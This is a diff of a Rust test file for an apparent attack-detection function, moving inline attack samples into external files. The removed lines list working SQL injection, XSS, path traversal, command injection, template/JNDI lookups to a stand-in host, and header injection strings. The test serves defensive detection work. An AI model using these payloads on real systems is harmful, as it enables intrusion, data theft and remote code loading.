@@ -16,73 +16,20 @@ fn in_query(value: &str) -> Option<Suspicion<'static>> {
 }
 
 #[track_caller]
-fn attacks(class: Class, values: &[&str]) {
-    let missed: Vec<_> =
-        values.iter().filter(|value| in_query(value).is_none_or(|found| found.class != class)).collect();
-    assert!(missed.is_empty(), "{missed:?}");
+fn attacks(class: Class, list: &str) {
+    let found = |value: &&str| in_query(value).is_some_and(|found| found.class == class);
+    let missed: Vec<_> = list.lines().filter(|value| !found(value)).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
 }
 
 #[test]
-fn sql_that_leaves_its_place_is_seen_in_its_disguises() {
-    attacks(
-        Class::Sql,
-        &[
-            "' or '1'='1",
-            "' OR 1=1 --",
-            "1 or 1=1",
-            "1' UNION SELECT null, password FROM users --",
-            "1 union/**/select 1,2,3",
-            "1%27%20or%201=1",
-            "1%2527%2520or%25201=1",
-            "1; DROP TABLE users",
-            "1 and sleep(5)",
-            "1'; waitfor delay '0:0:5' --",
-            "1 /*!50000union*/ /*!50000select*/ 1,2",
-            "') or ('x'='x",
-            "1 and extractvalue(1, concat(0x7e, version()))",
-        ],
-    );
-}
-
-#[test]
-fn scripts_are_seen_in_their_disguises() {
-    attacks(
-        Class::Script,
-        &[
-            "<script>alert(1)</script>",
-            "%3Cscript%3Ealert(1)%3C/script%3E",
-            "<img src=x onerror=alert(1)>",
-            "<svg/onload=alert(1)>",
-            "&lt;script&gt;alert(1)",
-            "javascript:alert(1)",
-            "java&Tab;script:alert(1)",
-            "<iframe src=//x.example>",
-            "\\u003cscript>alert(1)",
-        ],
-    );
-}
-
-#[test]
-fn the_other_classes_are_seen() {
-    attacks(
-        Class::Traversal,
-        &[
-            "../../etc/passwd",
-            "..%2f..%2fboot",
-            "%252e%252e%252f%252e%252e%252fx",
-            "..%c0%af..%c0%afx",
-            "..;/..;/x",
-        ],
-    );
-    attacks(
-        Class::Command,
-        &["; whoami", "| cat /etc/hostname", "$(curl http://x.example)", "x;id", "a`id`"],
-    );
-    attacks(
-        Class::Template,
-        &["{{7*7}}", "${7*7}", "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/a}"],
-    );
-    attacks(Class::Header, &["a%0d%0aSet-Cookie: x=1", "a\r\nLocation: https://x.example"]);
+fn attacks_of_every_class_are_seen_in_their_disguises() {
+    attacks(Class::Sql, include_str!("attacks/sql.txt"));
+    attacks(Class::Script, include_str!("attacks/script.txt"));
+    attacks(Class::Traversal, include_str!("attacks/traversal.txt"));
+    attacks(Class::Command, include_str!("attacks/command.txt"));
+    attacks(Class::Template, include_str!("attacks/template.txt"));
+    attacks(Class::Header, include_str!("attacks/header.txt"));
 }
 
 #[test]
